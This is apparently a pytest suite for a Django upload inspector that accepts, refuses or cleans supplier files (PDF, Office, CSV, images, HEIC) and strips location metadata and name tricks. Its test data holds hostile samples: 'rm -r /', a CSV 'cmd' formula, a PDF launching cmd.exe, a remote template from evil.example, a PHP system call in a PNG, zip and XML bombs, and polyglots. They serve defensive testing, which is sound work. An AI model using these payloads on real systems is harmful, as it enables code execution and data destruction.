"""What is taken, what is refused and why, and what is left of a picture: with files made for each case."""

import hashlib
import io
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from suppliers import inspection
from suppliers.inspecting.unfit import Unfit
from suppliers.inspection import MAX_BYTES, inspect, named_as, safe_name
from suppliers.refusals import REASONS, FileRefused
from tests.suppliers.files import archive, compound, excel_records, office, pdf_bytes, picture


HEIC = (Path(__file__).parent.parent / "data" / "photo.heic").read_bytes()
ENCRYPT = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >> /ID [(a) (a)]" % (b"o" * 32, b"u" * 32)
FETCHES = b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'


def taken(name: str, content: bytes) -> tuple[str, str, bytes]:
    """(name, type, what is kept)"""
    found = inspect(SimpleUploadedFile(name, content))
    found.content.seek(0)
    kept = found.content.read()
    found.close()
    assert (found.size, found.sha256) == (len(kept), hashlib.sha256(kept).hexdigest())
    return found.name, found.content_type.rpartition(".")[2].rpartition("/")[2], kept


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as refused:
        inspect(SimpleUploadedFile(name, content))
    assert refused.value.messages[0]
    return refused.value.code


# --- taken ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("permit.pdf", pdf_bytes(), "pdf"),
        ("scan.pdf", b"\xef\xbb\xbf\r\n" + pdf_bytes(), "pdf"),
        ("policy.docx", office("docx"), "document"),
        ("meter.xlsx", office("xlsx", {"xl/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}), "sheet"),
        ("training.pptx", office("pptx"), "presentation"),
        ("invoice.ofd", archive({"OFD.xml": b"<x/>", "Doc_0/Document.xml": b"<x/>", "Doc_0/Res/image.png": b"x"}), "ofd"),
        ("old.xls", compound({"Workbook": excel_records(0, 0)}), "ms-excel"),
        ("old.doc", compound({"WordDocument": b"\xec\xa5" + bytes(100), "1Table": b"x"}), "msword"),
        ("meter.csv", "月份,度\n1,2\n".encode("gb18030"), "csv"),
        ("meter.csv", "Month;kWh\nMärz;1,5\n=SUM(B1:B2);-3\n".encode("cp1252"), "csv"),
        ("note.txt", "说明".encode("utf-16"), "plain"),
        ("note.txt", b"Gas < 5 % of all", "plain"),
    ],
)
def test_what_offices_write_is_taken_as_it_is(name, content, kind):
    assert taken(name, content) == (name, kind, content)


@pytest.mark.parametrize(
    ("name", "content", "kept_as"),
    [
        ("permit.txt", pdf_bytes(), "permit.pdf"),
        ("photo.png", picture("JPEG"), "photo.jpg"),
        ("photo.JPEG", picture("JPEG"), "photo.JPEG"),
        ("tool.exe", pdf_bytes(), "tool.exe.pdf"),
        ("no ending", pdf_bytes(), "no ending.pdf"),
        ("table.xls", office("xlsx"), "table.xlsx"),
    ],
)
def test_a_file_is_what_its_bytes_say_and_gets_the_ending_that_is_true(name, content, kept_as):
    assert taken(name, content)[0] == kept_as


# --- refused: kind, size, wholeness -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("tool.exe", b"MZ\x90\x00\x03", "file_kind"),
        ("tool.pdf", b"MZ\x90\x00\x03", "file_content"),
        ("script.js", b"alert(1)", "file_kind"),
        ("page.pdf", b"<html>", "file_content"),
        ("page.txt", b"<!DOCTYPE html><script>alert(1)</script>", "file_program"),
        ("picture.txt", b"<svg onload='alert(1)'/>", "file_program"),
        ("run.txt", b"#!/bin/sh\nrm -r /", "file_program"),
        ("meter.csv", b"a,b\n1,=cmd|'/c calc'!A1\n", "file_formula"),
        ("binary.txt", b"text" * 2000 + b"\x00\x01", "file_content"),
        ("half.txt", "说明".encode("utf-16")[:-1], "file_damaged"),
        ("all.zip", archive({"a.txt": b"a"}), "file_archive"),
        ("all.docx", archive({"a.txt": b"a"}), "file_archive"),
        ("all.rar", b"Rar!\x1a\x07\x01\x00aaaa", "file_archive"),
        ("all.7z", b"7z\xbc\xaf\x27\x1c\x00\x04", "file_archive"),
        ("all.tar.gz", b"\x1f\x8b\x08\x00" + bytes(30), "file_archive"),
        ("all.tar", b"a.txt".ljust(257, b"\x00") + b"ustar\x0000" + bytes(300), "file_archive"),
        ("letter.odt", archive({"mimetype": b"application/vnd.oasis.opendocument.text"}), "file_archive"),
        ("slides.ppt", compound({"PowerPoint Document": b"x"}), "file_old_office"),
        ("mail.msg", compound({"__properties_version1.0": b"x"}), "file_kind"),
        ("empty.pdf", b"", "file_empty"),
        ("cut.pdf", pdf_bytes()[:-30], "file_damaged"),
        ("name.pdf", b"%PDF-1.7\nnothing\nstartxref\n9\n%%EOF\n", "file_damaged"),
        ("cut.docx", office("docx")[:-30], "file_damaged"),
        ("cut.jpg", picture("JPEG", size=(200, 200))[:600], "file_damaged"),
        ("cut.png", picture("PNG", size=(200, 200))[:600], "file_damaged"),
        ("cut.webp", picture("WEBP", size=(200, 200))[:200], "file_damaged"),
        ("cut.heic", HEIC[:300], "file_damaged"),
        ("cut.xls", compound({"Workbook": excel_records(0)})[:1500], "file_damaged"),
        ("name.jpg", b"\xff\xd8\xff\xe0", "file_damaged"),
    ],
)
def test_other_files_are_refused_with_a_reason(name, content, code):
    assert refusal(name, content) == code


def test_a_file_of_51_megabytes_is_refused(monkeypatch):
    assert MAX_BYTES == 50 * 1024 * 1024
    assert refusal("big.txt", b"a" * (MAX_BYTES + 1)) == "file_size"
    assert refusal("big.pdf", b"%PDF-1.7\n" + bytes(51 * 1024 * 1024)) == "file_size"


# --- refused: what acts, what is locked -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.pdf", pdf_bytes(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf_script"),
        ("a.pdf", pdf_bytes(catalog=b"/OpenAction << /S /J#61vaScript /#4a#53 (x) >>"), "pdf_script"),
        ("a.pdf", pdf_bytes(objects=[b"<< /S /JavaScript /JS (no page refers to me) >>"]), "pdf_script"),
        ("a.pdf", pdf_bytes(catalog=b"/AcroForm << /XFA (x) /Fields [] >>"), "pdf_script"),
        ("a.pdf", pdf_bytes(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_launch"),
        ("a.pdf", pdf_bytes(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"), "pdf_attachment"),
        ("a.pdf", pdf_bytes(objects=[b"<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>"]), "pdf_attachment"),
        ("a.pdf", pdf_bytes(trailer=ENCRYPT), "file_encrypted"),
        ("a.docx", office("docx", {"word/vbaProject.bin": b"x"}), "file_macros"),
        ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "file_macros"),
        ("a.xlsx", office("xlsx", content_type="vnd.ms-excel.sheet.macroEnabled.main+xml"), "file_macros"),
        ("a.docx", office("docx", {"word/activeX/activeX1.xml": b"<x/>"}), "file_controls"),
        ("a.docx", office("docx", {"word/embeddings/run.exe": b"MZ"}), "file_parts"),
        ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"x"})}), "file_parts"),
        ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": compound({"Macros/VBA": b"x"})}), "file_macros"),
        ("a.pptx", office("pptx", {"ppt/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}), "file_macros"),
        ("a.docx", office("docx", {"word/_rels/settings.xml.rels": FETCHES}), "file_remote"),
        ("a.xlsx", office("xlsx", {"xl/sharedStrings.xml": b'<!DOCTYPE a [<!ENTITY b "bbb">]><a>&b;</a>'}), "file_bomb"),
        ("a.docx", compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "file_encrypted"),
        ("a.doc", compound({"WordDocument": b"\xec\xa5" + bytes(8) + b"\x00\x01" + bytes(90)}), "file_encrypted"),
        ("a.doc", compound({"WordDocument": b"\xec\xa5" + bytes(100), "Macros/VBA": b"x"}), "file_macros"),
        ("a.xls", compound({"Workbook": excel_records(0, 1)}), "file_macros"),
        ("a.xls", compound({"Workbook": excel_records(0), "_VBA_PROJECT_CUR/VBA": b"x"}), "file_macros"),
        ("a.xls", compound({"Workbook": excel_records(0, more=struct.pack("<HHH", 0x2F, 2, 0))}), "file_encrypted"),
        ("a.xls", compound({"Workbook": excel_records(0), "MBD0/\x01Ole10Native": b"x"}), "file_parts"),
    ],
)  # fmt: skip
def test_what_acts_and_what_is_locked_is_refused(name, content, code):
    assert refusal(name, content) == code


def test_names_inside_of_texts_are_only_texts():
    assert taken("a.pdf", pdf_bytes(objects=[b"<< /Title (How to use /JavaScript and \\(/JS\\)) >>"]))


def test_a_part_of_a_package_that_is_encrypted_is_refused():
    content = bytearray(office("docx"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1

    assert refusal("a.docx", bytes(content)) == "file_encrypted"


# --- refused: two files in one ----------------------------------------------------------------------------------------

ZIP = archive({"a.class": b"a"})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", pdf_bytes() + ZIP),
        ("a.pdf", pdf_bytes() + ZIP[:-2] + b"\x06\x00%%EOF\n"),
        ("a.pdf", pdf_bytes() + b"<html><script>alert(1)</script>"),
        ("a.pdf", b"<html><script>/*" + pdf_bytes()),
        ("a.pdf", b"GIF89a" + pdf_bytes()),
        ("a.docx", ZIP + office("docx")),
        ("a.docx", b"<html>" + office("docx")),
        ("a.docx", office("docx") + b"<html>"),
        ("a.jpg", picture("JPEG") + ZIP),
        ("a.png", picture("PNG") + ZIP),
        ("a.webp", picture("WEBP") + ZIP),
        ("a.heic", HEIC + ZIP),
        ("a.jpg", picture("JPEG", comment=b"%PDF-1.7")),
        ("a.png", picture("PNG") + b"<?php system('id') ?>"),
        ("a.jpg", picture("JPEG") + pdf_bytes()),
        ("a.xls", compound({"Workbook": excel_records(0)}) + ZIP),
    ],
)  # fmt: skip
def test_two_files_in_one_are_refused(name, content):
    assert refusal(name, content) in {"file_polyglot", "file_content"}


# --- refused: made to overload ----------------------------------------------------------------------------------------


def test_a_package_that_unpacks_to_too_much_is_refused():
    assert refusal("a.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": bytes(30 * 1024 * 1024)})) == "file_bomb"


def test_a_package_whose_parts_lie_over_each_other_is_refused():
    content = office("docx", {"word/a.xml": bytes(range(256)) * 20})
    directory = content.index(b"PK\x01\x02")
    entry_at = content.index(b"PK\x01\x02", content.index(b"word/a.xml", directory) - 46)
    end = content.index(b"PK\x05\x06")
    entry = content[entry_at:end]
    twins = b"".join(entry.replace(b"word/a.xml", b"word/%c.xml" % letter) for letter in b"bcdefghijklmnopqrstuvwxyz")
    count, size, offset = struct.unpack("<HII", content[end + 10 : end + 20])
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count + 25, count + 25, size + len(twins), offset, 0)

    assert refusal("a.docx", content[:end] + twins + tail) == "file_bomb"


def test_a_package_of_packages_of_packages_is_refused():
    content = office("xlsx")
    for _ in range(4):
        content = office("xlsx", {"xl/embeddings/a.xlsx": content})

    assert refusal("a.xlsx", content) == "file_bomb"


def test_two_parts_of_one_name_are_refused(recwarn):
    file = io.BytesIO(office("docx"))
    with zipfile.ZipFile(file, "a") as made, pytest.warns(UserWarning, match="Duplicate"):
        made.writestr("word/document.xml", b"<other/>")

    assert refusal("a.docx", file.getvalue()) == "file_bomb"


def test_a_pdf_whose_hidden_objects_unfold_to_too_much_is_refused():
    unfolded = zlib.compress(b"5 0 " + bytes(400 * 1024 * 1024), 9)
    body = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(unfolded), unfolded)
    start = pdf_bytes(objects=[body]).rpartition(b"xref\n0")[0]
    start = start[: start.rindex(b"xref")] if start.endswith(b"start") else start
    entries = [b"\x00\x00\x00\x00\x00\xff", *(b"\x01" + start.index(b"%d 0 obj" % n).to_bytes(4, "big") + b"\x00" for n in range(1, 6))]
    entries.append(b"\x02\x00\x00\x00\x05\x00")
    table = b"".join(entries)
    place = len(start)
    head = b"<< /Type /XRef /Size 7 /W [1 4 1] /Root 6 0 R /Length %d >>" % len(table)

    assert refusal("a.pdf", start + b"8 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, table, place)) in {
        "file_damaged",
        "file_bomb",
    }


@pytest.mark.parametrize("size", [(40_000, 10), (20_000, 20_000)])
def test_a_picture_of_huge_sizes_is_refused_before_it_is_unfolded(size):
    content = bytearray(picture("PNG"))
    struct.pack_into(">II", content, 16, *size)
    struct.pack_into(">I", content, 29, zlib.crc32(content[12:29]))

    assert refusal("a.png", bytes(content)) == "picture_huge"


def test_a_heic_of_huge_sizes_is_refused():
    place = HEIC.index(b"ispe") + 8

    assert refusal("a.heic", HEIC[:place] + struct.pack(">II", 50_000, 50_000) + HEIC[place + 8 :]) == "picture_huge"


@pytest.mark.parametrize(("ends", "code"), [({"returncode": -11}, "file_damaged"), (None, "file_bomb")])
def test_a_file_that_breaks_its_process_is_refused_and_breaks_nothing_else(monkeypatch, ends, code):
    def run(*args, **options):
        if ends is None:
            raise subprocess.TimeoutExpired(args, 1)
        return subprocess.CompletedProcess(args, ends["returncode"], stderr=b"Segmentation fault")

    monkeypatch.setattr(inspection.subprocess, "run", run)

    assert refusal("a.pdf", pdf_bytes()) == code


# --- what is left of a picture ----------------------------------------------------------------------------------------

XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret place</x:xmpmeta>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jpg", picture("JPEG", place=True, xmp=XMP, comment=b"secret")),
        ("a.jpg", picture("JPEG", place=True, progressive=True)),
        ("a.png", picture("PNG", place=True)),
        ("a.webp", picture("WEBP", place=True, xmp=XMP)),
    ],
)
def test_a_picture_loses_its_place_and_no_pixel(name, content):
    _name, _kind, kept = taken(name, content)

    before, after = Image.open(io.BytesIO(content)), Image.open(io.BytesIO(kept))
    assert after.tobytes() == before.tobytes()
    assert dict(after.getexif()) == {0x0112: 6}, "which way up it is"
    assert b"Phone" in content
    assert b"Phone" not in kept
    assert b"secret" not in kept


def test_a_heic_loses_its_place_and_stays_as_long_as_it_was():
    _name, _kind, kept = taken("a.HEIC", HEIC)

    assert len(kept) == len(HEIC)
    assert b"Phone" in HEIC
    assert b"secret place" in HEIC
    assert b"Phone" not in kept
    assert b"secret place" not in kept


@pytest.mark.parametrize("tail", [b"\x00\x00\x00\x18ftypmp42" + bytes(99), picture("JPEG")])
def test_what_cameras_put_behind_a_picture_is_cut_off(tail):
    assert taken("a.jpg", picture("JPEG") + tail)[2] == taken("a.jpg", picture("JPEG"))[2]


def test_the_same_picture_comes_out_the_same():
    content = picture("JPEG", place=True)

    assert taken("a.jpg", content)[2] == taken("b.jpg", taken("a.jpg", content)[2])[2]


# --- names ------------------------------------------------------------------------------------------------------------


def test_names_of_files_lose_their_paths_and_tricks():
    assert safe_name("C:\\Users\\me\\证书.pdf") == "证书.pdf"
    assert safe_name("/etc/passwd") == "passwd"
    assert safe_name("invoice\u202efdp.exe\r\nX: y") == "invoicefdp.exeX: y"
    assert safe_name("a\x00b\ud800.pdf") == "ab.pdf"
    assert safe_name("") == "file"
    assert len(safe_name("x" * 500 + ".pdf")) <= 200
    assert safe_name("x" * 300 + ".pdf").endswith(".pdf")


def test_a_long_name_without_a_true_ending_stays_within_its_length():
    assert len(named_as("x" * 200, "xlsx")) == 200
    assert named_as("x" * 200, "xlsx").endswith(".xlsx")


def test_every_reason_has_words():
    sources = [path.read_text() for path in Path(inspection.__file__).parent.glob("inspecting/*.py")]
    codes = {code for text in sources for code in REASONS if f'"{code}"' in text}

    assert {"file_macros", "pdf_script", "picture_huge"} <= codes
    assert all(str(reason) for reason in REASONS.values())
    assert Unfit("file_kind").code in REASONS
